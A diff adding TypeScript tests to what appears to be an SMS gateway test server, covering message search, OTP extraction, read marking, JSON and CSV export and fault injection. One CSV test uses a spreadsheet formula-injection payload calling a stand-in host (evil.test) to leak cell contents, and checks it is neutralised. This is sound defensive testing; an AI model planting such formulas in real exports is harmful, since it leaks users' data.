@@ -289,3 +289,105 @@ describe('the page', () => {
     expect([answer.status, answer.headers.get('allow')]).toEqual([405, allowed]);
   });
 });
+
+describe('a search in a request', () => {
+  it.each([
+    'messages?search=is:blue',
+    'messages/latest?search=is:blue',
+    'messages/wait?timeout=0&search=is:blue',
+    'messages/otp?timeout=0&search=is:blue',
+    'messages/export?search=is:blue',
+  ])('%s is a 400 that lists what is known', async (path) => {
+    const gateway = await start();
+    const { status, json } = await api(gateway, `/api/${path}`);
+    expect(status).toBe(400);
+    expect(json).toMatchObject({
+      error: { message: expect.stringMatching(/^is:blue is .* unread, .*, scheduled\.$/) },
+    });
+  });
+
+  it('finds, waits for and reads a code in a message with a text', async () => {
+    const gateway = await start();
+    await send(gateway, { msg: 'Login code 111111' });
+    await send(gateway, { msg: 'Payment code 222222' });
+    const search = encodeURIComponent('text:login');
+    const otp = await api(gateway, `/api/messages/otp?search=${search}`);
+    expect(otp.json).toEqual({ otp: '111111' });
+    const latest = await api(gateway, `/api/messages/latest?search=${search}`);
+    expect(latest.json).toMatchObject({ otp: '111111' });
+    const waiting = api(gateway, `/api/messages/wait?search=${encodeURIComponent('"see you"')}`);
+    await send(gateway, { msg: 'See you, at 10:30' });
+    expect((await waiting).json).toMatchObject({ text: 'See you, at 10:30' });
+    expect(await gateway.otp({ search: 'payment' })).toBe('222222');
+    await expect(gateway.waitFor({ search: 'is:blue' })).rejects.toThrow('waitFor: is:blue is not');
+    await expect(gateway.waitFor({ search: 'never', timeout: 0 })).rejects.toThrow(
+      'No message that the search finds came within 0 ms.',
+    );
+  });
+});
+
+describe('POST /api/messages/read', () => {
+  it('marks everything read, or what a search finds', async () => {
+    const gateway = await start();
+    for (const msg of ['apple', 'pear', 'plum']) await send(gateway, { msg });
+    const read = (body: object) =>
+      api(gateway, '/api/messages/read', { method: 'POST', body: JSON.stringify(body) });
+    expect((await read({ search: 'apple' })).json).toEqual({ updated: 1 });
+    expect(gateway.messages.map((message) => message.read)).toEqual([true, false, false]);
+    expect((await read({})).json).toEqual({ updated: 2 });
+    expect((await read({ seach: 'apple' })).status).toBe(400);
+  });
+});
+
+describe('GET /api/messages/export', () => {
+  it('downloads what the search finds, as JSON', async () => {
+    const gateway = await start();
+    await send(gateway, { msg: 'apple' });
+    await send(gateway, { msg: 'pear' });
+    const answer = await fetch(`${gateway.origin}/api/messages/export?format=json&search=apple`);
+    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="sms-inbox.json"');
+    expect(await answer.json()).toEqual([gateway.messages[0]]);
+    const none = await fetch(`${gateway.origin}/api/messages/export?search=plum`);
+    expect(await none.json()).toEqual([]);
+  });
+
+  it('downloads CSV in which no cell is a formula', async () => {
+    const gateway = await start();
+    const formula = '=HYPERLINK("http://evil.test?"&A1,"code")';
+    for (const msg of [formula, '+1', '-1', '@x', '\t=1', 'one\nमस्ते "two", three']) {
+      await send(gateway, { msg, senderid: '=S' });
+    }
+    const answer = await fetch(`${gateway.origin}/api/messages/export?format=csv`);
+    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    const bytes = Buffer.from(await answer.arrayBuffer());
+    const csv = bytes.toString('utf8');
+    expect(csv).toMatch(/^\uFEFFat,id,status,account,sender,to,/);
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.test?""&A1,""code"")"`);
+    expect(csv).toContain('मस्ते ""two"", three"');
+    const cells = [...csv.matchAll(/(?:^|,)"((?:[^"]|"")*)"/gm)].map(([, cell = '']) => cell);
+    expect(cells.length).toBeGreaterThan(6 * 15);
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
+});
+
+describe('the faults of parallel tests', () => {
+  it('are added and removed alone', async () => {
+    const gateway = await start();
+    const change = (method: string, path: string, body?: object) =>
+      api(gateway, `/api/faults${path}`, { method, ...(body && { body: JSON.stringify(body) }) });
+    const first = await change('POST', '', { fault: 'slow', probability: 0.1 });
+    const second = await change('POST', '', { fault: '429', count: 2 });
+    expect([first.status, second.status]).toEqual([201, 201]);
+    expect(second.json).toMatchObject({ id: expect.stringMatching(/^\w{12}$/), count: 2 });
+    const plan = await change('GET', '');
+    expect(plan.json).toMatchObject({ next: [second.json], chance: [first.json] });
+    expect((await change('DELETE', `/${String(first.json['id'])}`)).json).toEqual({ deleted: 1 });
+    expect((await change('DELETE', `/${String(first.json['id'])}`)).status).toBe(404);
+    expect(gateway.faults.state).toMatchObject({ next: [second.json], chance: [] });
+    const { next, chance } = gateway.faults.state;
+    expect((await change('PUT', '', { next, chance })).json).toMatchObject({ next: [second.json] });
+    await send(gateway);
+    await send(gateway);
+    expect((await change('DELETE', `/${String(second.json['id'])}`)).status).toBe(404);
+  });
+});
